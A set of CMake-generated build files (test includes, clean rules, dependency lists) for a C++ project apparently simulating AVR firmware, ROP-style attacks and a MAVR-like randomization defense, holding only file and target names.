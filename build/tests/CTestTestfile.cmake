# CMake generated Testfile for 
# Source directory: /root/repo/tests
# Build directory: /root/repo/build/tests
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
include("/root/repo/build/tests/support_test[1]_include.cmake")
include("/root/repo/build/tests/avr_decode_test[1]_include.cmake")
include("/root/repo/build/tests/avr_cpu_test[1]_include.cmake")
include("/root/repo/build/tests/avr_devices_test[1]_include.cmake")
include("/root/repo/build/tests/toolchain_linker_test[1]_include.cmake")
include("/root/repo/build/tests/toolchain_intelhex_test[1]_include.cmake")
include("/root/repo/build/tests/toolchain_image_test[1]_include.cmake")
include("/root/repo/build/tests/mavlink_test[1]_include.cmake")
include("/root/repo/build/tests/sim_board_test[1]_include.cmake")
include("/root/repo/build/tests/firmware_boot_test[1]_include.cmake")
include("/root/repo/build/tests/firmware_generator_test[1]_include.cmake")
include("/root/repo/build/tests/attack_gadgets_test[1]_include.cmake")
include("/root/repo/build/tests/attack_stealthy_test[1]_include.cmake")
include("/root/repo/build/tests/defense_randomize_test[1]_include.cmake")
include("/root/repo/build/tests/defense_mavr_system_test[1]_include.cmake")
include("/root/repo/build/tests/defense_bruteforce_test[1]_include.cmake")
include("/root/repo/build/tests/defense_master_test[1]_include.cmake")
include("/root/repo/build/tests/avr_cpu_edge_test[1]_include.cmake")
include("/root/repo/build/tests/sim_ground_test[1]_include.cmake")
include("/root/repo/build/tests/avr_interrupt_test[1]_include.cmake")
include("/root/repo/build/tests/defense_padding_test[1]_include.cmake")
include("/root/repo/build/tests/toolchain_asm_text_test[1]_include.cmake")
