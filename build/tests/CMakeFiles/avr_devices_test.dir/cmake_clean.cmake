file(REMOVE_RECURSE
  "CMakeFiles/avr_devices_test.dir/avr/devices_test.cpp.o"
  "CMakeFiles/avr_devices_test.dir/avr/devices_test.cpp.o.d"
  "avr_devices_test"
  "avr_devices_test.pdb"
  "avr_devices_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/avr_devices_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
