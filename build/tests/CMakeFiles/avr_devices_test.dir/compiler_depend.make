# Empty compiler generated dependencies file for avr_devices_test.
# This may be replaced when dependencies are built.
