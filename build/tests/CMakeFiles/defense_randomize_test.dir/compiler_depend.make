# Empty compiler generated dependencies file for defense_randomize_test.
# This may be replaced when dependencies are built.
