file(REMOVE_RECURSE
  "CMakeFiles/defense_randomize_test.dir/defense/randomize_test.cpp.o"
  "CMakeFiles/defense_randomize_test.dir/defense/randomize_test.cpp.o.d"
  "defense_randomize_test"
  "defense_randomize_test.pdb"
  "defense_randomize_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/defense_randomize_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
