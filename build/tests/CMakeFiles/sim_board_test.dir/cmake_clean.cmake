file(REMOVE_RECURSE
  "CMakeFiles/sim_board_test.dir/sim/board_test.cpp.o"
  "CMakeFiles/sim_board_test.dir/sim/board_test.cpp.o.d"
  "sim_board_test"
  "sim_board_test.pdb"
  "sim_board_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sim_board_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
