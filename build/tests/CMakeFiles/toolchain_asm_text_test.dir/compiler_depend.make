# Empty compiler generated dependencies file for toolchain_asm_text_test.
# This may be replaced when dependencies are built.
