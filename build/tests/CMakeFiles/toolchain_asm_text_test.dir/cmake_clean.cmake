file(REMOVE_RECURSE
  "CMakeFiles/toolchain_asm_text_test.dir/toolchain/asm_text_test.cpp.o"
  "CMakeFiles/toolchain_asm_text_test.dir/toolchain/asm_text_test.cpp.o.d"
  "toolchain_asm_text_test"
  "toolchain_asm_text_test.pdb"
  "toolchain_asm_text_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/toolchain_asm_text_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
