file(REMOVE_RECURSE
  "CMakeFiles/toolchain_image_test.dir/toolchain/image_test.cpp.o"
  "CMakeFiles/toolchain_image_test.dir/toolchain/image_test.cpp.o.d"
  "toolchain_image_test"
  "toolchain_image_test.pdb"
  "toolchain_image_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/toolchain_image_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
