# Empty dependencies file for toolchain_image_test.
# This may be replaced when dependencies are built.
