file(REMOVE_RECURSE
  "CMakeFiles/defense_bruteforce_test.dir/defense/bruteforce_test.cpp.o"
  "CMakeFiles/defense_bruteforce_test.dir/defense/bruteforce_test.cpp.o.d"
  "defense_bruteforce_test"
  "defense_bruteforce_test.pdb"
  "defense_bruteforce_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/defense_bruteforce_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
