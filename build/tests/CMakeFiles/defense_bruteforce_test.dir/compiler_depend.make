# Empty compiler generated dependencies file for defense_bruteforce_test.
# This may be replaced when dependencies are built.
