file(REMOVE_RECURSE
  "CMakeFiles/attack_stealthy_test.dir/attack/stealthy_test.cpp.o"
  "CMakeFiles/attack_stealthy_test.dir/attack/stealthy_test.cpp.o.d"
  "attack_stealthy_test"
  "attack_stealthy_test.pdb"
  "attack_stealthy_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/attack_stealthy_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
