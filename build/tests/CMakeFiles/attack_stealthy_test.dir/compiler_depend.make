# Empty compiler generated dependencies file for attack_stealthy_test.
# This may be replaced when dependencies are built.
