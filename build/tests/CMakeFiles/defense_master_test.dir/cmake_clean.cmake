file(REMOVE_RECURSE
  "CMakeFiles/defense_master_test.dir/defense/master_test.cpp.o"
  "CMakeFiles/defense_master_test.dir/defense/master_test.cpp.o.d"
  "defense_master_test"
  "defense_master_test.pdb"
  "defense_master_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/defense_master_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
