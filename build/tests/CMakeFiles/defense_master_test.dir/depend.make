# Empty dependencies file for defense_master_test.
# This may be replaced when dependencies are built.
