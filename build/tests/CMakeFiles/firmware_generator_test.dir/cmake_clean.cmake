file(REMOVE_RECURSE
  "CMakeFiles/firmware_generator_test.dir/firmware/generator_test.cpp.o"
  "CMakeFiles/firmware_generator_test.dir/firmware/generator_test.cpp.o.d"
  "firmware_generator_test"
  "firmware_generator_test.pdb"
  "firmware_generator_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/firmware_generator_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
