file(REMOVE_RECURSE
  "CMakeFiles/firmware_boot_test.dir/firmware/boot_test.cpp.o"
  "CMakeFiles/firmware_boot_test.dir/firmware/boot_test.cpp.o.d"
  "firmware_boot_test"
  "firmware_boot_test.pdb"
  "firmware_boot_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/firmware_boot_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
