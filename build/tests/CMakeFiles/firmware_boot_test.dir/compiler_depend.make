# Empty compiler generated dependencies file for firmware_boot_test.
# This may be replaced when dependencies are built.
