file(REMOVE_RECURSE
  "CMakeFiles/attack_gadgets_test.dir/attack/gadgets_test.cpp.o"
  "CMakeFiles/attack_gadgets_test.dir/attack/gadgets_test.cpp.o.d"
  "attack_gadgets_test"
  "attack_gadgets_test.pdb"
  "attack_gadgets_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/attack_gadgets_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
