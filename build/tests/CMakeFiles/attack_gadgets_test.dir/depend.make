# Empty dependencies file for attack_gadgets_test.
# This may be replaced when dependencies are built.
