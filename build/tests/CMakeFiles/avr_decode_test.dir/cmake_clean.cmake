file(REMOVE_RECURSE
  "CMakeFiles/avr_decode_test.dir/avr/decode_test.cpp.o"
  "CMakeFiles/avr_decode_test.dir/avr/decode_test.cpp.o.d"
  "avr_decode_test"
  "avr_decode_test.pdb"
  "avr_decode_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/avr_decode_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
