# Empty compiler generated dependencies file for avr_decode_test.
# This may be replaced when dependencies are built.
