file(REMOVE_RECURSE
  "CMakeFiles/avr_interrupt_test.dir/avr/interrupt_test.cpp.o"
  "CMakeFiles/avr_interrupt_test.dir/avr/interrupt_test.cpp.o.d"
  "avr_interrupt_test"
  "avr_interrupt_test.pdb"
  "avr_interrupt_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/avr_interrupt_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
