# Empty compiler generated dependencies file for avr_interrupt_test.
# This may be replaced when dependencies are built.
