# Empty compiler generated dependencies file for defense_mavr_system_test.
# This may be replaced when dependencies are built.
