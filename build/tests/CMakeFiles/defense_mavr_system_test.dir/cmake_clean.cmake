file(REMOVE_RECURSE
  "CMakeFiles/defense_mavr_system_test.dir/defense/mavr_system_test.cpp.o"
  "CMakeFiles/defense_mavr_system_test.dir/defense/mavr_system_test.cpp.o.d"
  "defense_mavr_system_test"
  "defense_mavr_system_test.pdb"
  "defense_mavr_system_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/defense_mavr_system_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
