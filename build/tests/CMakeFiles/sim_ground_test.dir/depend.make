# Empty dependencies file for sim_ground_test.
# This may be replaced when dependencies are built.
