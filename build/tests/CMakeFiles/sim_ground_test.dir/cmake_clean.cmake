file(REMOVE_RECURSE
  "CMakeFiles/sim_ground_test.dir/sim/ground_test.cpp.o"
  "CMakeFiles/sim_ground_test.dir/sim/ground_test.cpp.o.d"
  "sim_ground_test"
  "sim_ground_test.pdb"
  "sim_ground_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/sim_ground_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
