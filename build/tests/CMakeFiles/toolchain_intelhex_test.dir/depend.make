# Empty dependencies file for toolchain_intelhex_test.
# This may be replaced when dependencies are built.
