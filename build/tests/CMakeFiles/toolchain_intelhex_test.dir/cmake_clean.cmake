file(REMOVE_RECURSE
  "CMakeFiles/toolchain_intelhex_test.dir/toolchain/intelhex_test.cpp.o"
  "CMakeFiles/toolchain_intelhex_test.dir/toolchain/intelhex_test.cpp.o.d"
  "toolchain_intelhex_test"
  "toolchain_intelhex_test.pdb"
  "toolchain_intelhex_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/toolchain_intelhex_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
