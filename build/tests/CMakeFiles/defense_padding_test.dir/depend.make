# Empty dependencies file for defense_padding_test.
# This may be replaced when dependencies are built.
