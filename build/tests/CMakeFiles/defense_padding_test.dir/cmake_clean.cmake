file(REMOVE_RECURSE
  "CMakeFiles/defense_padding_test.dir/defense/padding_test.cpp.o"
  "CMakeFiles/defense_padding_test.dir/defense/padding_test.cpp.o.d"
  "defense_padding_test"
  "defense_padding_test.pdb"
  "defense_padding_test[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/defense_padding_test.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
