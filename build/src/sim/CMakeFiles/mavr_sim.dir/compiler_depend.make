# Empty compiler generated dependencies file for mavr_sim.
# This may be replaced when dependencies are built.
