file(REMOVE_RECURSE
  "libmavr_sim.a"
)
