file(REMOVE_RECURSE
  "CMakeFiles/mavr_sim.dir/board.cpp.o"
  "CMakeFiles/mavr_sim.dir/board.cpp.o.d"
  "CMakeFiles/mavr_sim.dir/flight.cpp.o"
  "CMakeFiles/mavr_sim.dir/flight.cpp.o.d"
  "CMakeFiles/mavr_sim.dir/ground.cpp.o"
  "CMakeFiles/mavr_sim.dir/ground.cpp.o.d"
  "libmavr_sim.a"
  "libmavr_sim.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/mavr_sim.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
