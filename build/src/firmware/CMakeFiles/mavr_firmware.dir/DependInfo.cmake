
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/firmware/generator.cpp" "src/firmware/CMakeFiles/mavr_firmware.dir/generator.cpp.o" "gcc" "src/firmware/CMakeFiles/mavr_firmware.dir/generator.cpp.o.d"
  "/root/repo/src/firmware/profile.cpp" "src/firmware/CMakeFiles/mavr_firmware.dir/profile.cpp.o" "gcc" "src/firmware/CMakeFiles/mavr_firmware.dir/profile.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/toolchain/CMakeFiles/mavr_toolchain.dir/DependInfo.cmake"
  "/root/repo/build/src/avr/CMakeFiles/mavr_avr.dir/DependInfo.cmake"
  "/root/repo/build/src/support/CMakeFiles/mavr_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
