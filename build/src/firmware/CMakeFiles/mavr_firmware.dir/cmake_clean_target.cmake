file(REMOVE_RECURSE
  "libmavr_firmware.a"
)
