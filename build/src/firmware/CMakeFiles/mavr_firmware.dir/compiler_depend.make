# Empty compiler generated dependencies file for mavr_firmware.
# This may be replaced when dependencies are built.
