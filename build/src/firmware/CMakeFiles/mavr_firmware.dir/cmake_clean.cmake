file(REMOVE_RECURSE
  "CMakeFiles/mavr_firmware.dir/generator.cpp.o"
  "CMakeFiles/mavr_firmware.dir/generator.cpp.o.d"
  "CMakeFiles/mavr_firmware.dir/profile.cpp.o"
  "CMakeFiles/mavr_firmware.dir/profile.cpp.o.d"
  "libmavr_firmware.a"
  "libmavr_firmware.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/mavr_firmware.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
