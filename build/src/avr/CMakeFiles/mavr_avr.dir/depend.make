# Empty dependencies file for mavr_avr.
# This may be replaced when dependencies are built.
