file(REMOVE_RECURSE
  "libmavr_avr.a"
)
