
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/avr/cpu.cpp" "src/avr/CMakeFiles/mavr_avr.dir/cpu.cpp.o" "gcc" "src/avr/CMakeFiles/mavr_avr.dir/cpu.cpp.o.d"
  "/root/repo/src/avr/decode.cpp" "src/avr/CMakeFiles/mavr_avr.dir/decode.cpp.o" "gcc" "src/avr/CMakeFiles/mavr_avr.dir/decode.cpp.o.d"
  "/root/repo/src/avr/gpio.cpp" "src/avr/CMakeFiles/mavr_avr.dir/gpio.cpp.o" "gcc" "src/avr/CMakeFiles/mavr_avr.dir/gpio.cpp.o.d"
  "/root/repo/src/avr/instr.cpp" "src/avr/CMakeFiles/mavr_avr.dir/instr.cpp.o" "gcc" "src/avr/CMakeFiles/mavr_avr.dir/instr.cpp.o.d"
  "/root/repo/src/avr/memory.cpp" "src/avr/CMakeFiles/mavr_avr.dir/memory.cpp.o" "gcc" "src/avr/CMakeFiles/mavr_avr.dir/memory.cpp.o.d"
  "/root/repo/src/avr/uart.cpp" "src/avr/CMakeFiles/mavr_avr.dir/uart.cpp.o" "gcc" "src/avr/CMakeFiles/mavr_avr.dir/uart.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/support/CMakeFiles/mavr_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
