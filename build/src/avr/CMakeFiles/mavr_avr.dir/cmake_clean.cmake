file(REMOVE_RECURSE
  "CMakeFiles/mavr_avr.dir/cpu.cpp.o"
  "CMakeFiles/mavr_avr.dir/cpu.cpp.o.d"
  "CMakeFiles/mavr_avr.dir/decode.cpp.o"
  "CMakeFiles/mavr_avr.dir/decode.cpp.o.d"
  "CMakeFiles/mavr_avr.dir/gpio.cpp.o"
  "CMakeFiles/mavr_avr.dir/gpio.cpp.o.d"
  "CMakeFiles/mavr_avr.dir/instr.cpp.o"
  "CMakeFiles/mavr_avr.dir/instr.cpp.o.d"
  "CMakeFiles/mavr_avr.dir/memory.cpp.o"
  "CMakeFiles/mavr_avr.dir/memory.cpp.o.d"
  "CMakeFiles/mavr_avr.dir/uart.cpp.o"
  "CMakeFiles/mavr_avr.dir/uart.cpp.o.d"
  "libmavr_avr.a"
  "libmavr_avr.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/mavr_avr.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
