file(REMOVE_RECURSE
  "libmavr_support.a"
)
