# Empty dependencies file for mavr_support.
# This may be replaced when dependencies are built.
