file(REMOVE_RECURSE
  "CMakeFiles/mavr_support.dir/crc.cpp.o"
  "CMakeFiles/mavr_support.dir/crc.cpp.o.d"
  "CMakeFiles/mavr_support.dir/hexdump.cpp.o"
  "CMakeFiles/mavr_support.dir/hexdump.cpp.o.d"
  "CMakeFiles/mavr_support.dir/log.cpp.o"
  "CMakeFiles/mavr_support.dir/log.cpp.o.d"
  "CMakeFiles/mavr_support.dir/rng.cpp.o"
  "CMakeFiles/mavr_support.dir/rng.cpp.o.d"
  "libmavr_support.a"
  "libmavr_support.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/mavr_support.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
