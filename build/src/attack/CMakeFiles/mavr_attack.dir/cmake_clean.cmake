file(REMOVE_RECURSE
  "CMakeFiles/mavr_attack.dir/attacks.cpp.o"
  "CMakeFiles/mavr_attack.dir/attacks.cpp.o.d"
  "CMakeFiles/mavr_attack.dir/gadgets.cpp.o"
  "CMakeFiles/mavr_attack.dir/gadgets.cpp.o.d"
  "CMakeFiles/mavr_attack.dir/rop.cpp.o"
  "CMakeFiles/mavr_attack.dir/rop.cpp.o.d"
  "libmavr_attack.a"
  "libmavr_attack.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/mavr_attack.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
