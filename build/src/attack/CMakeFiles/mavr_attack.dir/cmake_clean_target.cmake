file(REMOVE_RECURSE
  "libmavr_attack.a"
)
