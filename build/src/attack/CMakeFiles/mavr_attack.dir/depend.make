# Empty dependencies file for mavr_attack.
# This may be replaced when dependencies are built.
