file(REMOVE_RECURSE
  "CMakeFiles/mavr_mavlink.dir/mavlink.cpp.o"
  "CMakeFiles/mavr_mavlink.dir/mavlink.cpp.o.d"
  "libmavr_mavlink.a"
  "libmavr_mavlink.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/mavr_mavlink.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
