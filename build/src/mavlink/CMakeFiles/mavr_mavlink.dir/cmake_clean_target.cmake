file(REMOVE_RECURSE
  "libmavr_mavlink.a"
)
