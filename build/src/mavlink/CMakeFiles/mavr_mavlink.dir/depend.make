# Empty dependencies file for mavr_mavlink.
# This may be replaced when dependencies are built.
