file(REMOVE_RECURSE
  "CMakeFiles/mavr_toolchain.dir/asm_text.cpp.o"
  "CMakeFiles/mavr_toolchain.dir/asm_text.cpp.o.d"
  "CMakeFiles/mavr_toolchain.dir/assembler.cpp.o"
  "CMakeFiles/mavr_toolchain.dir/assembler.cpp.o.d"
  "CMakeFiles/mavr_toolchain.dir/disasm.cpp.o"
  "CMakeFiles/mavr_toolchain.dir/disasm.cpp.o.d"
  "CMakeFiles/mavr_toolchain.dir/encode.cpp.o"
  "CMakeFiles/mavr_toolchain.dir/encode.cpp.o.d"
  "CMakeFiles/mavr_toolchain.dir/image.cpp.o"
  "CMakeFiles/mavr_toolchain.dir/image.cpp.o.d"
  "CMakeFiles/mavr_toolchain.dir/intelhex.cpp.o"
  "CMakeFiles/mavr_toolchain.dir/intelhex.cpp.o.d"
  "CMakeFiles/mavr_toolchain.dir/linker.cpp.o"
  "CMakeFiles/mavr_toolchain.dir/linker.cpp.o.d"
  "libmavr_toolchain.a"
  "libmavr_toolchain.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/mavr_toolchain.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
