# Empty dependencies file for mavr_toolchain.
# This may be replaced when dependencies are built.
