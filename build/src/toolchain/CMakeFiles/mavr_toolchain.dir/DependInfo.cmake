
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/src/toolchain/asm_text.cpp" "src/toolchain/CMakeFiles/mavr_toolchain.dir/asm_text.cpp.o" "gcc" "src/toolchain/CMakeFiles/mavr_toolchain.dir/asm_text.cpp.o.d"
  "/root/repo/src/toolchain/assembler.cpp" "src/toolchain/CMakeFiles/mavr_toolchain.dir/assembler.cpp.o" "gcc" "src/toolchain/CMakeFiles/mavr_toolchain.dir/assembler.cpp.o.d"
  "/root/repo/src/toolchain/disasm.cpp" "src/toolchain/CMakeFiles/mavr_toolchain.dir/disasm.cpp.o" "gcc" "src/toolchain/CMakeFiles/mavr_toolchain.dir/disasm.cpp.o.d"
  "/root/repo/src/toolchain/encode.cpp" "src/toolchain/CMakeFiles/mavr_toolchain.dir/encode.cpp.o" "gcc" "src/toolchain/CMakeFiles/mavr_toolchain.dir/encode.cpp.o.d"
  "/root/repo/src/toolchain/image.cpp" "src/toolchain/CMakeFiles/mavr_toolchain.dir/image.cpp.o" "gcc" "src/toolchain/CMakeFiles/mavr_toolchain.dir/image.cpp.o.d"
  "/root/repo/src/toolchain/intelhex.cpp" "src/toolchain/CMakeFiles/mavr_toolchain.dir/intelhex.cpp.o" "gcc" "src/toolchain/CMakeFiles/mavr_toolchain.dir/intelhex.cpp.o.d"
  "/root/repo/src/toolchain/linker.cpp" "src/toolchain/CMakeFiles/mavr_toolchain.dir/linker.cpp.o" "gcc" "src/toolchain/CMakeFiles/mavr_toolchain.dir/linker.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/avr/CMakeFiles/mavr_avr.dir/DependInfo.cmake"
  "/root/repo/build/src/support/CMakeFiles/mavr_support.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
