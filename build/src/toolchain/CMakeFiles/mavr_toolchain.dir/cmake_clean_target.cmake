file(REMOVE_RECURSE
  "libmavr_toolchain.a"
)
