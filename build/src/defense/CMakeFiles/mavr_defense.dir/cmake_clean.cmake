file(REMOVE_RECURSE
  "CMakeFiles/mavr_defense.dir/bruteforce.cpp.o"
  "CMakeFiles/mavr_defense.dir/bruteforce.cpp.o.d"
  "CMakeFiles/mavr_defense.dir/master.cpp.o"
  "CMakeFiles/mavr_defense.dir/master.cpp.o.d"
  "CMakeFiles/mavr_defense.dir/patcher.cpp.o"
  "CMakeFiles/mavr_defense.dir/patcher.cpp.o.d"
  "CMakeFiles/mavr_defense.dir/preprocess.cpp.o"
  "CMakeFiles/mavr_defense.dir/preprocess.cpp.o.d"
  "libmavr_defense.a"
  "libmavr_defense.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/mavr_defense.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
