# Empty compiler generated dependencies file for mavr_defense.
# This may be replaced when dependencies are built.
