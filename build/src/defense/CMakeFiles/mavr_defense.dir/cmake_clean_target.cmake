file(REMOVE_RECURSE
  "libmavr_defense.a"
)
