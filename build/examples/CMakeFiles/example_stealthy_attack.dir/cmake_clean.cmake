file(REMOVE_RECURSE
  "CMakeFiles/example_stealthy_attack.dir/stealthy_attack.cpp.o"
  "CMakeFiles/example_stealthy_attack.dir/stealthy_attack.cpp.o.d"
  "stealthy_attack"
  "stealthy_attack.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/example_stealthy_attack.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
