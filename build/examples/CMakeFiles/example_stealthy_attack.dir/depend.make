# Empty dependencies file for example_stealthy_attack.
# This may be replaced when dependencies are built.
