# Empty compiler generated dependencies file for example_mission_hijack.
# This may be replaced when dependencies are built.
