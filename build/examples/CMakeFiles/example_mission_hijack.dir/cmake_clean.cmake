file(REMOVE_RECURSE
  "CMakeFiles/example_mission_hijack.dir/mission_hijack.cpp.o"
  "CMakeFiles/example_mission_hijack.dir/mission_hijack.cpp.o.d"
  "mission_hijack"
  "mission_hijack.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/example_mission_hijack.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
