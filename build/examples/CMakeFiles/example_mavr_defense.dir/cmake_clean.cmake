file(REMOVE_RECURSE
  "CMakeFiles/example_mavr_defense.dir/mavr_defense.cpp.o"
  "CMakeFiles/example_mavr_defense.dir/mavr_defense.cpp.o.d"
  "mavr_defense"
  "mavr_defense.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/example_mavr_defense.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
