# Empty compiler generated dependencies file for example_mavr_defense.
# This may be replaced when dependencies are built.
