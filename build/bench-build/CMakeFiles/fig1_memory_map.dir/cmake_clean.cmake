file(REMOVE_RECURSE
  "../bench/fig1_memory_map"
  "../bench/fig1_memory_map.pdb"
  "CMakeFiles/fig1_memory_map.dir/fig1_memory_map.cpp.o"
  "CMakeFiles/fig1_memory_map.dir/fig1_memory_map.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig1_memory_map.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
