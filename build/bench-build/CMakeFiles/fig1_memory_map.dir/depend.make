# Empty dependencies file for fig1_memory_map.
# This may be replaced when dependencies are built.
