file(REMOVE_RECURSE
  "../bench/ablation_prologues"
  "../bench/ablation_prologues.pdb"
  "CMakeFiles/ablation_prologues.dir/ablation_prologues.cpp.o"
  "CMakeFiles/ablation_prologues.dir/ablation_prologues.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/ablation_prologues.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
