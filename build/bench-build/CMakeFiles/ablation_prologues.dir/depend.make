# Empty dependencies file for ablation_prologues.
# This may be replaced when dependencies are built.
