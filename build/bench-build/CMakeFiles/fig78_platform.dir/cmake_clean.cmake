file(REMOVE_RECURSE
  "../bench/fig78_platform"
  "../bench/fig78_platform.pdb"
  "CMakeFiles/fig78_platform.dir/fig78_platform.cpp.o"
  "CMakeFiles/fig78_platform.dir/fig78_platform.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/fig78_platform.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
