# Empty compiler generated dependencies file for fig78_platform.
# This may be replaced when dependencies are built.
