file(REMOVE_RECURSE
  "../bench/table1_functions"
  "../bench/table1_functions.pdb"
  "CMakeFiles/table1_functions.dir/table1_functions.cpp.o"
  "CMakeFiles/table1_functions.dir/table1_functions.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table1_functions.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
