file(REMOVE_RECURSE
  "../bench/table2_startup"
  "../bench/table2_startup.pdb"
  "CMakeFiles/table2_startup.dir/table2_startup.cpp.o"
  "CMakeFiles/table2_startup.dir/table2_startup.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/table2_startup.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
