# Empty compiler generated dependencies file for table2_startup.
# This may be replaced when dependencies are built.
