file(REMOVE_RECURSE
  "../bench/bruteforce"
  "../bench/bruteforce.pdb"
  "CMakeFiles/bruteforce.dir/bruteforce.cpp.o"
  "CMakeFiles/bruteforce.dir/bruteforce.cpp.o.d"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
